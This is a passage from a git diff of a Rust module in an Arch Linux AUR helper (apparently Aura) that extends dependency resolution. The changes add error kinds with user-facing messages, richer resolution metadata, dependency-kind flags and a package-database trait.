@@ -1,8 +1,12 @@
 //! AUR package dependency solving.
 
+use crate::faur::FaurClient;
+use crate::git::Retry;
 use applying::Apply;
+use itertools::Itertools;
 use log::debug;
 use log::info;
+use log::warn;
 use nonempty_collections::nev;
 use nonempty_collections::NESet;
 use nonempty_collections::NEVec;
@@ -15,17 +19,32 @@ use r2d2_alpm::Alpm;
 use rayon::iter::IntoParallelIterator;
 use rayon::iter::IntoParallelRefIterator;
 use rayon::iter::ParallelIterator;
+use rayon::ThreadPool;
+use serde::Deserialize;
+use serde::Serialize;
+use srcinfo::ArchVec;
 use srcinfo::Srcinfo;
 use std::borrow::Borrow;
+use std::cmp::Ordering;
 use std::collections::HashMap;
 use std::collections::HashSet;
+use std::collections::VecDeque;
+use std::hash::DefaultHasher;
 use std::hash::Hash;
+use std::hash::Hasher;
+use std::io::Read;
+use std::io::Write;
 use std::ops::Not;
 use std::path::Path;
 use std::path::PathBuf;
+use std::process::Command;
+use std::process::Stdio;
+use std::sync::mpsc::RecvTimeoutError;
 use std::sync::Arc;
+use std::sync::Condvar;
 use std::sync::Mutex;
-use time::OffsetDateTime;
+use std::time::Duration;
+use std::time::Instant;
 use validated::Validated;
 
 /// Errors that can occur during dependency resolution.
@@ -51,6 +70,38 @@ pub enum Error<E> {
     CyclicDep(Vec<String>),
     /// Contacting Faur somehow failed.
     Faur(E),
+    /// An [`InstallPlan`] couldn't be rendered as JSON.
+    Json(serde_json::Error),
+    /// An official package was only available from a repository that isn't
+    /// allowed. Holds the package name and repository.
+    DisallowedRepo(String, String),
+    /// A package's local clone no longer matches what a
+    /// [`DependencyManifest`] expected of it.
+    ManifestDrift(String, Drift),
+    /// In strict mode, a dependency was provided by more than one AUR package.
+    /// Holds the dependency and the candidates.
+    AmbiguousFaur(String, Vec<String>),
+    /// In strict mode, a dependency was provided by more than one official
+    /// package. Holds the dependency and the candidates.
+    AmbiguousProvider(String, Vec<String>),
+    /// In strict mode, the `pkgbase` of a `.SRCINFO` didn't match the name of
+    /// its clone directory. Holds the directory name and the `pkgbase`.
+    BaseMismatch(String, String),
+    /// A [`ResolveOpts::pkgbuild_audit`] rejected a package's `PKGBUILD`.
+    /// Holds the package name and the reason given.
+    AuditRejected(String, String),
+    /// Parsing or generating the given `.SRCINFO` took longer than
+    /// [`ResolveOpts::srcinfo_timeout`] allowed.
+    SrcinfoParseTimeout(String),
+    /// A clone had no `.SRCINFO`, and one couldn't be generated from its
+    /// `PKGBUILD`.
+    SrcinfoGeneration(PathBuf),
+    /// Two packages in the plan declare a conflict with each other, and so
+    /// can't be installed together.
+    Conflict(String, String),
+    /// A package failed to build during [`build_tiers`]. Holds the package
+    /// name and the builder's own error.
+    Build(String, E),
 }
 
 impl<E> Error<E> {
@@ -61,10 +112,175 @@ impl<E> Error<E> {
             otherwise => nev![otherwise],
         }
     }
+
+    /// A stable name for the kind of this error, regardless of its contents.
+    pub fn kind(&self) -> &'static str {
+        match self {
+            Error::PoisonedMutex => "poisoned-mutex",
+            Error::R2D2(_) => "r2d2",
+            Error::Srcinfo(_, _) => "srcinfo",
+            Error::Git(_) => "git",
+            Error::Resolutions(_) => "resolutions",
+            Error::DoesntExist(_) => "doesnt-exist",
+            Error::DoesntExistWithParent(_, _) => "doesnt-exist-with-parent",
+            Error::MalformedGraph => "malformed-graph",
+            Error::CyclicDep(_) => "cyclic-dep",
+            Error::Faur(_) => "faur",
+            Error::Json(_) => "json",
+            Error::DisallowedRepo(_, _) => "disallowed-repo",
+            Error::ManifestDrift(_, _) => "manifest-drift",
+            Error::AmbiguousFaur(_, _) => "ambiguous-faur",
+            Error::AmbiguousProvider(_, _) => "ambiguous-provider",
+            Error::BaseMismatch(_, _) => "base-mismatch",
+            Error::AuditRejected(_, _) => "audit-rejected",
+            Error::SrcinfoParseTimeout(_) => "srcinfo-parse-timeout",
+            Error::SrcinfoGeneration(_) => "srcinfo-generation",
+            Error::Conflict(_, _) => "conflict",
+            Error::Build(_, _) => "build",
+        }
+    }
+
+    /// How many of each [`Error::kind`] of error occurred, after flattening
+    /// any [`Error::Resolutions`]. Useful for summarizing many failures at
+    /// once.
+    pub fn kind_counts(&self) -> HashMap<&'static str, usize> {
+        self.inner_errors().into_iter().map(|e| e.kind()).counts()
+    }
+
+    /// A friendly, actionable explanation of this error, suitable for showing
+    /// to end users. Multiple errors are grouped by [`Error::kind`].
+    pub fn user_message(&self) -> String {
+        match self {
+            Error::PoisonedMutex => {
+                "Resolution failed internally due to a poisoned lock. Please try again, and report this if it persists.".to_string()
+            }
+            Error::R2D2(e) => {
+                format!("Couldn't open the package databases: {e}. Is another pacman process holding them?")
+            }
+            Error::Srcinfo(p, e) => format!(
+                "The .SRCINFO at {} couldn't be read: {e}. Try deleting the clone so it's fetched afresh.",
+                p.display()
+            ),
+            Error::Git(e) => format!("{e}. Check your network connection and the state of your local clones."),
+            Error::Resolutions(_) => {
+                let groups = self
+                    .inner_errors()
+                    .into_iter()
+                    .map(|e| (e.kind(), e.user_message()))
+                    .into_group_map();
+                let total: usize = groups.values().map(|ms| ms.len()).sum();
+                let body = groups
+                    .into_iter()
+                    .sorted_by_key(|(kind, _)| *kind)
+                    .map(|(kind, msgs)| {
+                        let lines = msgs.iter().map(|m| format!("  - {m}")).join("\n");
+                        format!("{kind} ({}):\n{lines}", msgs.len())
+                    })
+                    .join("\n");
+                format!("{total} problems occurred during dependency resolution.\n{body}")
+            }
+            Error::DoesntExist(p) => format!(
+                "The package {p} doesn't exist. Check its spelling, or whether it was renamed or deleted from the AUR."
+            ),
+            Error::DoesntExistWithParent(par, p) => format!(
+                "{par} depends on {p}, which doesn't exist. It may have been renamed or deleted from the AUR; check whether {par} is still maintained."
+            ),
+            Error::MalformedGraph => {
+                "The dependency graph was malformed. This is a bug; please report it.".to_string()
+            }
+            Error::CyclicDep(cycle) => format!(
+                "These packages depend on each other in a cycle: {}. One of them must be installed by hand first.",
+                cycle.join(" => ")
+            ),
+            Error::Faur(_) => {
+                "Couldn't contact the Faur to look up AUR packages. Check your network connection.".to_string()
+            }
+            Error::Json(e) => format!("The installation plan couldn't be rendered as JSON: {e}."),
+            Error::DisallowedRepo(p, repo) => format!(
+                "{p} is only available from the {repo} repository, which isn't allowed. Allow {repo}, or install {p} another way."
+            ),
+            Error::ManifestDrift(p, _) => format!(
+                "The clone of {p} no longer matches the manifest. Update the manifest, or check out the pinned commit."
+            ),
+            Error::AmbiguousFaur(p, cands) | Error::AmbiguousProvider(p, cands) => format!(
+                "{p} is provided by several packages ({}). Request one of them explicitly.",
+                cands.join(", ")
+            ),
+            Error::BaseMismatch(dir, base) => format!(
+                "The clone directory {dir} actually holds {base}. Delete it so that it's cloned afresh."
+            ),
+            Error::AuditRejected(p, reason) => format!(
+                "The PKGBUILD of {p} was rejected: {reason}. Review it carefully before building it by hand."
+            ),
+            Error::SrcinfoParseTimeout(p) => format!(
+                "Reading the .SRCINFO of {p} took too long. The file may be malformed or malicious."
+            ),
+            Error::SrcinfoGeneration(p) => format!(
+                "No .SRCINFO could be generated in {}. Check that its PKGBUILD is valid and that makepkg is installed.",
+                p.display()
+            ),
+            Error::Conflict(a, b) => format!(
+                "{a} and {b} conflict, so can't be installed together. Request only one of them."
+            ),
+            Error::Build(p, _) => format!(
+                "{p} failed to build. Check its build output, and whether its dependencies were built first."
+            ),
+        }
+    }
+}
+
+impl<E: std::fmt::Display> std::fmt::Display for Error<E> {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Error::PoisonedMutex => write!(f, "A mutex was poisoned."),
+            Error::R2D2(e) => write!(f, "{e}"),
+            Error::Srcinfo(p, e) => write!(f, "Failed to parse {}: {e}", p.display()),
+            Error::Git(e) => write!(f, "{e}"),
+            Error::Resolutions(bx) => {
+                write!(f, "{} errors during dependency resolution", bx.len())
+            }
+            Error::DoesntExist(p) => write!(f, "Unknown package: {p}"),
+            Error::DoesntExistWithParent(par, p) => write!(f, "Unknown dependency {p} of {par}"),
+            Error::MalformedGraph => write!(f, "The dependency graph was malformed"),
+            Error::CyclicDep(cycle) => write!(f, "Dependency cycle: {}", cycle.join(" => ")),
+            Error::Faur(e) => write!(f, "{e}"),
+            Error::Json(e) => write!(f, "{e}"),
+            Error::DisallowedRepo(p, r) => write!(f, "{p} is only in disallowed repository {r}"),
+            Error::ManifestDrift(p, _) => write!(f, "{p} no longer matches its manifest"),
+            Error::AmbiguousFaur(p, cs) | Error::AmbiguousProvider(p, cs) => {
+                write!(f, "Multiple providers of {p}: {}", cs.join(", "))
+            }
+            Error::BaseMismatch(d, b) => write!(f, "Clone directory {d} holds {b}"),
+            Error::AuditRejected(p, r) => write!(f, "PKGBUILD of {p} rejected: {r}"),
+            Error::SrcinfoParseTimeout(p) => write!(f, "Parsing {p} timed out"),
+            Error::SrcinfoGeneration(p) => {
+                write!(f, "Failed to generate a .SRCINFO in {}", p.display())
+            }
+            Error::Conflict(a, b) => write!(f, "{a} conflicts with {b}"),
+            Error::Build(p, e) => write!(f, "Failed to build {p}: {e}"),
+        }
+    }
+}
+
+impl<E: std::error::Error + 'static> std::error::Error for Error<E> {
+    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
+        match self {
+            Error::R2D2(e) => Some(e),
+            Error::Srcinfo(_, e) => Some(e),
+            Error::Git(e) => Some(e),
+            Error::Faur(e) => Some(e),
+            Error::Json(e) => Some(e),
+            Error::Build(_, e) => Some(e),
+            _ => None,
+        }
+    }
 }
 
 /// The results of dependency resolution.
-#[derive(Default)]
+///
+/// Serializes with the names of its public fields. Internal bookkeeping is
+/// left out.
+#[derive(Debug, Default, Clone, Serialize)]
 pub struct Resolution {
     /// Packages to be installed from official repos.
     pub to_install: HashSet<Official>,
@@ -74,17 +290,295 @@ pub struct Resolution {
     pub satisfied: HashSet<String>,
     /// Packages that are somehow accounted for. A dependency might be provided
     /// by some package, but under a slightly different name. This also takes
-    /// split packages into account.
-    provided: HashSet<String>,
+    /// split packages into account. Maps each provided name to the package
+    /// that provides it. See [`Resolution::provider`].
+    #[serde(skip)]
+    provided: HashMap<String, String>,
+    /// Oddities noticed during resolution that didn't prevent it from
+    /// completing.
+    pub diagnostics: Vec<Diagnostic>,
+    /// Dependencies that were never examined, due to a soft deadline having
+    /// passed.
+    pub unexplored: HashSet<String>,
+    /// The AUR vote count and popularity of packages looked up during
+    /// resolution. Packages that were already cloned aren't looked up, unless
+    /// [`ResolveOpts::min_votes`] is set.
+    pub popularity: HashMap<String, (u64, f64)>,
+    /// AUR packages with fewer votes than [`ResolveOpts::min_votes`]. Such
+    /// packages may be unmaintained, and warrant some caution.
+    pub low_popularity: HashSet<String>,
+    /// Where each AUR package was cloned to, keyed by `pkgbase`.
+    pub clone_paths: HashMap<String, PathBuf>,
+    /// Official packages whose repository version is older than the one
+    /// installed, as pairs of the installed and candidate versions. Installing
+    /// these, say after a partial upgrade, may break the system.
+    pub downgrades: HashMap<String, (String, String)>,
+    /// The explicitly requested packages themselves, when only their
+    /// dependencies were to be resolved. See [`ResolveOpts::deps_only`].
+    pub roots: HashSet<String>,
+    /// Explicitly requested packages that are already provided by some
+    /// installed package of a different name, keyed by the requested name.
+    pub satisfied_by: HashMap<String, String>,
+    /// Optional dependencies that couldn't be found anywhere, and so were
+    /// skipped. See [`ResolveOpts::optdeps`].
+    pub unavailable_optdeps: HashSet<String>,
+    /// How many of the official packages to install come from each
+    /// repository.
+    pub repo_breakdown: HashMap<String, usize>,
+    /// Virtual names provided by more than one package in the plan, which are
+    /// likely to conflict when installed together.
+    pub provider_conflicts: HashMap<String, Vec<String>>,
+    /// Every dependency relationship seen, as `(from, to, kind)`.
+    #[serde(skip)]
+    dep_edges: HashSet<(String, String, DepKind)>,
+    /// Names as given, mapped to the differently-cased official packages they
+    /// matched. See [`ResolveOpts::case_insensitive_official`].
+    pub case_folded: HashMap<String, String>,
+    /// The `validpgpkeys` of AUR packages with signed sources, keyed by
+    /// `pkgbase`. `makepkg` can only verify these sources if the keys are in
+    /// the user's keyring. See [`crate::gpg`].
+    pub pgp_keys: HashMap<String, Vec<String>>,
+    /// AUR packages to be built whose `pkgver` tracks some upstream repository,
+    /// by `pkgbase`. Installed versions of these may be stale, so a front-end
+    /// may wish to rebuild them regardless. See [`is_vcs`].
+    pub vcs: HashSet<String>,
+    /// Every package fetched from the Faur during resolution, by name. Only
+    /// populated when [`ResolveOpts::collect_faur`] is set.
+    pub faur_packages: HashMap<String, crate::faur::Package>,
+    /// Requested packages that were skipped for naming the same package as
+    /// another request, say `foo` and `foo>=1.0`.
+    pub dropped_duplicates: Vec<String>,
+    /// Each package mapped to the package whose dependency first led to it.
+    /// Requested packages have no entry. See [`Resolution::reason_chain`].
+    pub parents: HashMap<String, String>,
+    /// How long resolution took. For an incremental resolution, only the time
+    /// taken by the latest pass.
+    pub duration: Duration,
+    /// Requested packages that were built and installed locally, say from the
+    /// AUR, but which are now available from the official repositories. Such
+    /// packages should be reinstalled from there. Sorted.
+    pub migrated: Vec<String>,
+    /// Packages some thread has claimed to resolve, but which may not yet be
+    /// recorded anywhere else. Only meaningful during resolution.
+    #[serde(skip)]
+    in_flight: HashSet<String>,
+    /// The names each package in the plan declares a conflict with.
+    #[serde(skip)]
+    conflicts: HashMap<String, HashSet<String>>,
 }
 
 impl Resolution {
     /// Have we already considered the given package?
     pub fn seen(&self, pkg: &str) -> bool {
-        self.provided.contains(pkg)
+        self.provided.contains_key(pkg)
             || self.satisfied.contains(pkg)
             || self.to_install.contains(pkg)
             || self.to_build.contains(pkg)
+            || self.roots.contains(pkg)
+    }
+
+    /// Every virtual name that will exist on the system once this plan is
+    /// carried out, as far as is known.
+    ///
+    /// Useful when chaining multiple resolutions together.
+    pub fn virtual_provides(&self) -> impl Iterator<Item = &str> {
+        let officials = self.to_install.iter().flat_map(|o| o.provides.iter());
+        let builds = self.to_build.iter().flat_map(|b| b.provides.iter());
+
+        self.provided
+            .keys()
+            .chain(officials)
+            .chain(builds)
+            .map(|s| s.as_str())
+            .unique()
+    }
+
+    /// The official packages to install, exactly as `pacman -S` expects them
+    /// on its command line: real names, deduplicated and sorted.
+    pub fn pacman_targets(&self) -> Vec<String> {
+        self.to_install
+            .iter()
+            .map(|o| o.name.clone())
+            .sorted()
+            .dedup()
+            .collect()
+    }
+
+    /// The package, by `pkgbase` for AUR packages, that provides the given
+    /// name in this plan. Names provided by the build environment (see
+    /// [`ResolveOpts::virtual_provided`]) are their own providers.
+    pub fn provider(&self, name: &str) -> Option<&str> {
+        self.provided.get(name).map(|s| s.as_str())
+    }
+
+    /// Why some package is part of this `Resolution`: the chain of
+    /// dependencies leading to it, starting from the requested package that
+    /// pulled it in and ending with the package itself.
+    pub fn reason_chain(&self, pkg: &str) -> Vec<String> {
+        let mut chain = vec![pkg.to_string()];
+        let mut seen = HashSet::from([pkg]);
+        let mut curr = pkg;
+
+        while let Some(parent) = self.parents.get(curr) {
+            // Guards against any cycle in the recorded parents.
+            if seen.insert(parent.as_str()).not() {
+                break;
+            }
+
+            chain.push(parent.clone());
+            curr = parent;
+        }
+
+        chain.reverse();
+        chain
+    }
+
+    /// Every dependency relationship between the packages in this
+    /// `Resolution`, as a flat, sorted list of `(from, to, kind)` edges. Handy
+    /// for storing the graph in a database.
+    pub fn edges(&self) -> Vec<(String, String, DepKind)> {
+        self.dep_edges.iter().cloned().sorted().collect()
+    }
+
+    /// Every package name involved in this `Resolution` in any way: those to be
+    /// installed or built, their dependencies, and anything already satisfied
+    /// or provided.
+    pub fn closure(&self) -> HashSet<String> {
+        let officials = self.to_install.iter().map(|o| o.name.as_str());
+        let builds = self
+            .to_build
+            .iter()
+            .flat_map(|b| std::iter::once(&b.name).chain(b.deps.iter()))
+            .map(|s| s.as_str());
+
+        officials
+            .chain(builds)
+            .chain(self.satisfied.iter().map(|s| s.as_str()))
+            .chain(self.roots.iter().map(|s| s.as_str()))
+            .chain(self.virtual_provides())
+            .map(|s| s.to_string())
+            .collect()
+    }
+
+    /// The first pair of packages to install or build that conflict with each
+    /// other, if any. A package's conflicts may name another directly, or one
+    /// of its provided names.
+    fn conflict(&self) -> Option<(String, String)> {
+        let officials = self.to_install.iter().map(|o| (&o.name, &o.provides));
+        let builds = self.to_build.iter().map(|b| (&b.name, &b.provides));
+        let members: Vec<_> = officials
+            .chain(builds)
+            .sorted_by_key(|(name, _)| *name)
+            .collect();
+
+        members.iter().find_map(|(a, _)| {
+            let conflicts = self.conflicts.get(a.as_str())?;
+
+            members
+                .iter()
+                .filter(|(b, _)| b != a)
+                .find(|(b, provides)| {
+                    conflicts.contains(b.as_str()) || provides.iter().any(|p| conflicts.contains(p))
+                })
+                .map(|(b, _)| {
+                    let mut pair = [a.to_string(), b.to_string()];
+                    pair.sort();
+                    let [x, y] = pair;
+                    (x, y)
+                })
+        })
+    }
+
+    /// Ensure that each name appears in only one of the informational sets.
+    ///
+    /// A virtual name might be both provided by some AUR package and satisfied
+    /// by something already installed. In that case, being satisfied takes
+    /// precedence.
+    fn normalize(&mut self) {
+        self.migrated.sort();
+        self.migrated.dedup();
+
+        let satisfied = &self.satisfied;
+        self.provided.retain(|p, _| satisfied.contains(p).not());
+
+        let officials = self.to_install.iter().map(|o| (&o.name, &o.provides));
+        let builds = self.to_build.iter().map(|b| (&b.name, &b.provides));
+
+        self.provider_conflicts = officials
+            .chain(builds)
+            .flat_map(|(name, provides)| provides.iter().map(move |p| (p.clone(), name.clone())))
+            .into_group_map()
+            .into_iter()
+            .filter(|(_, names)| names.len() > 1)
+            .map(|(p, mut names)| {
+                names.sort();
+                (p, names)
+            })
+            .collect();
+    }
+
+    /// Every name reachable in this plan from the given ones, following
+    /// dependencies and the packages that provide them. The dependencies of the
+    /// given `leaves` aren't followed.
+    fn reachable<'a, I>(&self, from: I, leaves: &HashSet<String>) -> HashSet<String>
+    where
+        I: IntoIterator<Item = &'a str>,
+    {
+        let mut seen = HashSet::new();
+        let mut todo: Vec<String> = from.into_iter().map(strip_version).collect();
+
+        while let Some(name) = todo.pop() {
+            if seen.contains(&name) {
+                continue;
+            }
+
+            if let Some(by) = self.provided.get(&name) {
+                todo.push(by.clone());
+            }
+
+            if leaves.contains(&name).not() {
+                let edges = self
+                    .dep_edges
+                    .iter()
+                    .filter(|(from, _, _)| *from == name)
+                    .map(|(_, to, _)| to.clone());
+                let deps = self
+                    .to_build
+                    .get(name.as_str())
+                    .into_iter()
+                    .flat_map(|b| b.deps.iter().cloned());
+
+                todo.extend(edges.chain(deps));
+            }
+
+            seen.insert(name);
+        }
+
+        seen
+    }
+
+    /// Forget every package not among the given ones.
+    fn retain_only(&mut self, keep: &HashSet<String>) {
+        self.to_install.retain(|o| keep.contains(&o.name));
+        self.to_build.retain(|b| keep.contains(&b.name));
+        self.satisfied.retain(|p| keep.contains(p));
+        self.provided.retain(|_, by| keep.contains(by));
+        self.unexplored.retain(|p| keep.contains(p));
+        self.popularity.retain(|p, _| keep.contains(p));
+        self.low_popularity.retain(|p| keep.contains(p));
+        self.clone_paths.retain(|p, _| keep.contains(p));
+        self.downgrades.retain(|p, _| keep.contains(p));
+        self.roots.retain(|p| keep.contains(p));
+        self.satisfied_by.retain(|p, _| keep.contains(p));
+        self.unavailable_optdeps.retain(|p| keep.contains(p));
+        self.dep_edges.retain(|(from, _, _)| keep.contains(from));
+        self.case_folded.retain(|p, _| keep.contains(p));
+        self.pgp_keys.retain(|p, _| keep.contains(p));
+        self.vcs.retain(|p| keep.contains(p));
+        self.faur_packages.retain(|p, _| keep.contains(p));
+        self.parents.retain(|p, _| keep.contains(p));
+        self.migrated.retain(|p| keep.contains(p));
+        self.conflicts.retain(|p, _| keep.contains(p));
     }
 
     /// Set the given packages as the ones to build without any other
@@ -97,24 +591,232 @@ impl Resolution {
         let to_build = pkgs
             .into_iter()
             .map(|s| {
-                let name = s.as_ref().into();
+                let name: String = s.as_ref().into();
                 let deps = HashSet::new();
-                Buildable { name, deps }
+                let provides = HashSet::new();
+                let members = vec![name.clone()];
+                Buildable {
+                    name,
+                    deps,
+                    provides,
+                    members,
+                }
             })
             .collect();
 
         Resolution {
-            to_install: HashSet::new(),
             to_build,
-            satisfied: HashSet::new(),
-            provided: HashSet::new(),
+            ..Resolution::default()
+        }
+    }
+}
+
+/// How one package depends on another.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum DepKind {
+    /// Needed to run the package.
+    Runtime,
+    /// Needed only to build the package.
+    Make,
+    /// Needed only to run the package's test suite.
+    Check,
+}
+
+/// A set of dependency classes, combined with `|`, whose arrays in a
+/// `.SRCINFO` are traversed during resolution.
+///
+/// ```
+/// use aura_core::aur::dependencies::DepKinds;
+///
+/// let kinds = DepKinds::RUNTIME | DepKinds::CHECK;
+/// assert!(kinds.contains(DepKinds::CHECK));
+/// assert!(!kinds.contains(DepKinds::MAKE));
+/// ```
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub struct DepKinds(u8);
+
+impl DepKinds {
+    /// `checkdepends`.
+    pub const CHECK: DepKinds = DepKinds(1 << 2);
+    /// `makedepends`.
+    pub const MAKE: DepKinds = DepKinds(1 << 1);
+    /// No dependencies at all.
+    pub const NONE: DepKinds = DepKinds(0);
+    /// `optdepends`. Those that don't exist are noted in
+    /// [`Resolution::unavailable_optdeps`] instead of failing resolution.
+    pub const OPT: DepKinds = DepKinds(1 << 3);
+    /// `depends`.
+    pub const RUNTIME: DepKinds = DepKinds(1);
+
+    /// Are all the given kinds within this set?
+    pub fn contains(&self, other: DepKinds) -> bool {
+        self.0 & other.0 == other.0
+    }
+}
+
+impl Default for DepKinds {
+    fn default() -> Self {
+        DepKinds::RUNTIME | DepKinds::MAKE
+    }
+}
+
+impl std::ops::BitOr for DepKinds {
+    type Output = DepKinds;
+
+    fn bitor(self, rhs: Self) -> Self::Output {
+        DepKinds(self.0 | rhs.0)
+    }
+}
+
+impl std::ops::BitOrAssign for DepKinds {
+    fn bitor_assign(&mut self, rhs: Self) {
+        self.0 |= rhs.0;
+    }
+}
+
+/// Something unexpected, but not fatal, that was noticed during resolution.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "kind", rename_all = "snake_case")]
+pub enum Diagnostic {
+    /// The `pkgbase` of a parsed `.SRCINFO` didn't match the name of the
+    /// directory it was found in. Later lookups by `pkgbase` won't find this
+    /// clone, and may cause redundant clones.
+    BaseMismatch {
+        /// The name of the clone directory.
+        dir: String,
+        /// The `pkgbase` declared within the `.SRCINFO`.
+        pkgbase: String,
+    },
+    /// The version of an AUR package, as found in its `.SRCINFO`, doesn't
+    /// meet the version demanded of it.
+    UnmetDemand {
+        /// The dependency, including its version demand.
+        demand: String,
+        /// The version actually available.
+        version: String,
+    },
+    /// A dependency name was rewritten by [`ResolveOpts::canonicalize`].
+    Canonicalized {
+        /// The name as originally given.
+        from: String,
+        /// The name it was rewritten to.
+        to: String,
+    },
+}
+
+/// A package, from some database, that satisfies a dependency.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Satisfier {
+    /// The real name of the package.
+    pub name: String,
+    /// The name of the database the package was found in.
+    pub repo: String,
+    /// The version of the package.
+    pub version: String,
+    /// The virtual names that this package provides.
+    pub provides: Vec<String>,
+    /// The names of its runtime dependencies, without version demands.
+    pub depends: Vec<String>,
+    /// The names of the packages it conflicts with, without version demands.
+    pub conflicts: Vec<String>,
+}
+
+impl Satisfier {
+    fn from_alpm(pkg: &alpm::Package) -> Self {
+        Satisfier {
+            name: pkg.name().to_string(),
+            repo: pkg.db().map(|db| db.name().to_string()).unwrap_or_default(),
+            version: pkg.version().to_string(),
+            provides: pkg
+                .provides()
+                .iter()
+                .map(|d| d.name().to_string())
+                .collect(),
+            depends: pkg.depends().iter().map(|d| d.name().to_string()).collect(),
+            conflicts: pkg
+                .conflicts()
+                .iter()
+                .map(|d| d.name().to_string())
+                .collect(),
         }
     }
 }
 
+/// The package database queries necessary for dependency resolution.
+///
+/// This is implemented for a live [`Alpm`] handle, and by an in-memory stand-in
+/// for testing.
+pub(crate) trait ResolveDb {
+    /// The installed package that satisfies the given dependency, if any. The
+    /// dependency may carry a version demand, like `glibc>=2.25`, which must
+    /// also be met.
+    fn local_satisfier(&self, pkg: &str) -> Option<Satisfier>;
+
+    /// The official package that satisfies the given name, if any.
+    fn sync_satisfier(&self, pkg: &str) -> Option<Satisfier>;
+
+    /// Every official package that satisfies the given name.
+    fn sync_providers(&self, pkg: &str) -> Vec<Satisfier>;
+
+    /// The names of the installed packages that depend on the given installed
+    /// package.
+    fn local_required_by(&self, pkg: &str) -> Vec<String>;
+
+    /// Is the given package installed, but built locally instead of installed
+    /// from a repository? This is judged by it lacking a signature.
+    fn locally_built(&self, pkg: &str) -> bool;
+}
+
+impl ResolveDb for Alpm {
+    fn local_satisfier(&self, pkg: &str) -> Option<Satisfier> {
+        let db = self.alpm.localdb();
+
+        db.pkg(pkg)
+            .ok()
+            .or_else(|| db.pkgs().find_satisfier(pkg))
+            .map(Satisfier::from_alpm)
+    }
+
+    fn sync_satisfier(&self, pkg: &str) -> Option<Satisfier> {
+        self.alpm
+            .syncdbs()
+            .find_satisfier(pkg)
+            .map(Satisfier::from_alpm)
+    }
+
+    fn sync_providers(&self, pkg: &str) -> Vec<Satisfier> {
+        self.alpm
+            .syncdbs()
+            .iter()
+            .flat_map(|db| db.pkgs())
+            .filter(|p| p.name() == pkg || p.provides().iter().any(|d| d.name() == pkg))
+            .map(Satisfier::from_alpm)
+            .collect()
+    }
+
+    fn local_required_by(&self, pkg: &str) -> Vec<String> {
+        self.alpm
+            .localdb()
+            .pkg(pkg)
+            .map(|p| p.required_by().into_iter().collect())
+            .unwrap_or_default()
+    }
+
+    fn locally_built(&self, pkg: &str) -> bool {
+        self.alpm.localdb().pkg(pkg).is_ok_and(|p| {
+            p.validation()
+                .contains(alpm::PackageValidation::SIGNATURE)
+                .not()
+        })
+    }
+}
+
 /// An official ALPM package.
-#[derive(Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
-pub struct Official(String);
+#[derive(Debug, Clone, Eq, Serialize)]
+pub struct Official {
+    name: String,
+    provides: HashSet<String>,
+}
 
 impl Official {
     /// Construct an `Official`.
@@ -122,35 +824,110 @@ impl Official {
     where
         S: Into<String>,
     {
-        Official(s.into())
+        Official {
+            name: s.into(),
+            provides: HashSet::new(),
+        }
+    }
+
+    /// The virtual names that this package provides, if known.
+    pub fn provides(&self) -> &HashSet<String> {
+        &self.provides
     }
 }
 
 impl Borrow<str> for Official {
     fn borrow(&self) -> &str {
-        self.0.as_ref()
+        self.name.as_ref()
     }
 }
 
 impl AsRef<str> for Official {
     fn as_ref(&self) -> &str {
-        self.0.as_ref()
+        self.name.as_ref()
     }
 }
 
 impl std::fmt::Display for Official {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        write!(f, "{}", self.0)
+        write!(f, "{}", self.name)
+    }
+}
+
+impl PartialEq for Official {
+    fn eq(&self, other: &Self) -> bool {
+        self.name == other.name
+    }
+}
+
+impl PartialOrd for Official {
+    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
+        Some(self.cmp(other))
+    }
+}
+
+impl Ord for Official {
+    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
+        self.name.cmp(&other.name)
+    }
+}
+
+impl Hash for Official {
+    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
+        self.name.hash(state);
     }
 }
 
 /// A buildable package from the AUR.
-#[derive(Eq)]
+#[derive(Clone, Eq, Serialize)]
 pub struct Buildable {
     /// The name of the AUR package.
     pub name: String,
     /// The names of its dependencies, both official and AUR.
     pub deps: HashSet<String>,
+    /// The virtual names that this package provides.
+    pub provides: HashSet<String>,
+    /// The `pkgname` of each package produced by building this one, sorted.
+    /// More than one for split packages.
+    pub members: Vec<String>,
+}
+
+impl Buildable {
+    /// The members of this package that should actually be installed, given
+    /// the names of some requested packages. That's only the requested ones,
+    /// or every member if none of them were requested by name.
+    ///
+    /// ```
+    /// use aura_core::aur::dependencies::Buildable;
+    /// use std::collections::HashSet;
+    ///
+    /// let b = Buildable {
+    ///     name: "foo".to_string(),
+    ///     deps: HashSet::new(),
+    ///     provides: HashSet::new(),
+    ///     members: vec!["foo".to_string(), "foo-docs".to_string()],
+    /// };
+    ///
+    /// let docs = HashSet::from(["foo-docs"]);
+    /// assert_eq!(vec!["foo-docs"], b.requested_members(&docs));
+    ///
+    /// let other = HashSet::from(["bar"]);
+    /// assert_eq!(vec!["foo", "foo-docs"], b.requested_members(&other));
+    /// ```
+    pub fn requested_members<'a>(&'a self, requested: &HashSet<&str>) -> Vec<&'a str> {
+        let named: Vec<_> = self
+            .members
+            .iter()
+            .map(|m| m.as_str())
+            .filter(|m| requested.contains(m))
+            .collect();
+
+        if named.is_empty() {
+            self.members.iter().map(|m| m.as_str()).collect()
+        } else {
+            named
+        }
+    }
 }
 
 impl std::fmt::Display for Buildable {
@@ -185,498 +962,4895 @@ impl Hash for Buildable {
     }
 }
 
-fn confirm_base_devel<M, E>(pool: Pool<M>, mutx: Arc<Mutex<Resolution>>) -> Result<(), Error<E>>
+fn confirm_base_devel<M, E>(pool: Pool<M>, buckets: &Buckets) -> Result<(), Error<E>>
 where
-    M: ManageConnection<Connection = Alpm>,
+    M: ManageConnection,
+    M::Connection: ResolveDb,
 {
-    let alpm = pool.get().map_err(Error::R2D2)?;
-    let db = alpm.alpm.localdb();
+    let db = pool.get().map_err(Error::R2D2)?;
 
-    if db.pkg("base-devel").is_err() {
+    if db.local_satisfier("base-devel").is_none() {
         let p = Official::new("base-devel");
 
